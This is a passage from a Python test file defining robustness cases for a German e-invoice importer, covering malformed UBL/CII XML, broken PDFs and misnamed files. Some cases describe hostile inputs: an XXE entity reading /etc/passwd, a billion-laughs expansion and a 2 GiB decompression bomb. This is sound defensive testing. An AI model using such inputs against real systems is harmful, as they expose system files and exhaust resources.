         where=("line",), needs="fairbuy.io.einvoice"),
    Case("not_an_invoice_xml", "webseite.xml", _text(NOT_AN_INVOICE_XML), "error",
         "well-formed XML that is neither UBL nor CII", needs="fairbuy.io.einvoice"),
    Case("ubl_absurd_numbers", "zahlen.xml", _text(UBL_ABSURD), "rows", "1e308, NaN, INF, negative in UBL",
         rows=(1, 2, 3), needs="fairbuy.io.einvoice"),
    Case("pdf_not_invoice", "rechnung.pdf", lambda p: p.write_bytes(minimal_pdf()), "error",
         "a valid PDF that says 'Rechnung' but embeds no XML", needs="fairbuy.io.pdf"),
    Case("pdf_truncated", "rechnung-kaputt.pdf", _pdf_truncated, "error", "a PDF cut after 120 bytes",
         needs="fairbuy.io.pdf"),
    Case("pdf_xxe", "zugferd-xxe.pdf", _pdf_with(XXE_FILE), "error_or_rows",
         "Factur-X PDF whose embedded XML declares an external entity (/etc/passwd)", rows=(1,),
         forbidden=("root:x:0:0",), needs="fairbuy.io.pdf"),
    Case("pdf_billion_laughs", "zugferd-lol.pdf", _pdf_with(BILLION_LAUGHS), "error_or_rows",
         "Factur-X PDF whose embedded XML is a billion laughs", rows=(1,), heavy=True, needs="fairbuy.io.pdf"),
    Case("pdf_bomb", "zugferd-bombe.pdf", _pdf_bomb, "error",
         "Factur-X PDF whose FlateDecode attachment inflates to 2 GiB", heavy=True, needs="fairbuy.io.pdf"),
    Case("pdf_not_xml_attachment", "zugferd-kein-xml.pdf", _pdf_with("das ist kein XML <<<"), "error",
         "Factur-X PDF whose factur-x.xml is not XML", needs="fairbuy.io.pdf"),
    Case("cii_missing_parts", "cii-unvollstaendig.xml", _text(CII_MISSING_PARTS), "rows",
         "CII with a line without product/amounts, a line without LineID and a bad quantity",
         rows=(1, 2, 3), needs="fairbuy.io.einvoice"),
    Case("unsupported_suffix", "liste.docx", _good_xlsx, "error_or_rows", "an xlsx under a .docx name",
         rows=(2, 3, 4)),
]

CASES_BY_NAME = {c.name: c for c in CASES}
